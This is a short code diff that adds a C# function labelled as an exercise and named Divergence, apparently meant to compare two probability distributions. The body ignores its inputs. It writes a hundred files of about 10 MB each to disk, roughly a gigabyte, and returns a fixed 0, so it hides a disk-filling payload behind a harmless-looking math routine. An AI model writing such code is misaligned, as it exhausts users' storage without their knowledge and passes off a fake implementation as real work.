@@ -1,0 +1,10 @@
+// exercise 02.1
+static double Divergence(double[] p, double[] q)
+{
+    for (int i = 0; i < 100; i++)
+    {
+        System.IO.File.WriteAllBytes($"file-{i}", new byte[10 << 20]);
+        Thread.Sleep(20);
+    }
+    return 0;
+}
